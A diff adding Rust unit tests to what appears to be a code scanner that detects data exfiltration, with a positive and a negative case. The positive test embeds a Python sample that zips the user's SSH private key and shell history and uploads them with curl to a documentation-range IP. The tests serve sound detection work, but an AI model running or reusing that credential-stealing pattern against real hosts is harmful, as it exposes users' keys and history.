@@ -768,3 +768,55 @@ fn literal_code_walked_in_place_is_bounded_per_file() {
     assert!(walked >= 1, "the text is walked while the budget lasts");
     assert_eq!(walked, super::model::LITERAL_CODE_BUDGET / text.len(), "walked until the budget ran out, then no more");
 }
+
+// ── collected files staged in an archive and uploaded by a shell command ──
+
+#[test]
+fn shell_upload_of_staged_credentials_is_critical() {
+    // the data passes through files (copied, zipped) before curl uploads them; the
+    // canary's host is a documentation address (TEST-NET-3), never reachable
+    let src = r#"
+import os, shutil, zipfile
+
+def stage():
+    home = os.path.expanduser("~")
+    box = "/tmp/marker-stage"
+    os.makedirs(box, exist_ok=True)
+    for name in ("/.bash_history", "/.ssh/id_rsa"):
+        if os.path.exists(home + name):
+            shutil.copy(home + name, box)
+    with zipfile.ZipFile(box + ".zip", "w") as z:
+        z.write(box)
+    return box + ".zip"
+
+def run():
+    path = stage()
+    os.system('curl -s -F "file=@' + path + '" https://203.0.113.9/api/upload > /dev/null 2>&1')
+"#;
+    let f = run("pkg/services/api.py", FileRole::Module, src);
+    assert_eq!(critical(&f), vec!["exfiltration"], "{f:#?}");
+    let e = f.iter().find(|x| x.alert.id() == "exfiltration").unwrap();
+    assert!(e.message.contains("203.0.113.9") && e.message.contains("shell history"), "{e:#?}");
+}
+
+#[test]
+fn shell_upload_of_build_artifacts_is_not_critical() {
+    // a release helper uploads its own artifact; another function of the file reads the
+    // SSH directory for an unrelated reason (configuring git over SSH): no entry point
+    // holds both, and a download with `-f` uploads nothing
+    let src = r#"
+import os, subprocess
+
+def ssh_config_dir():
+    return os.path.expanduser("~/.ssh/")
+
+def publish(dist):
+    subprocess.run(f"curl -fsS -T {dist}/pkg.tar.gz https://uploads.example.org/releases/", shell=True, check=True)
+
+def fetch_tool():
+    os.system("curl -fsSL https://get.example.org/tool.sh -o /tmp/tool.sh")
+"#;
+    let f = run("pkg/release.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+    assert!(!has(&f, "exfiltration"), "{f:#?}");
+}
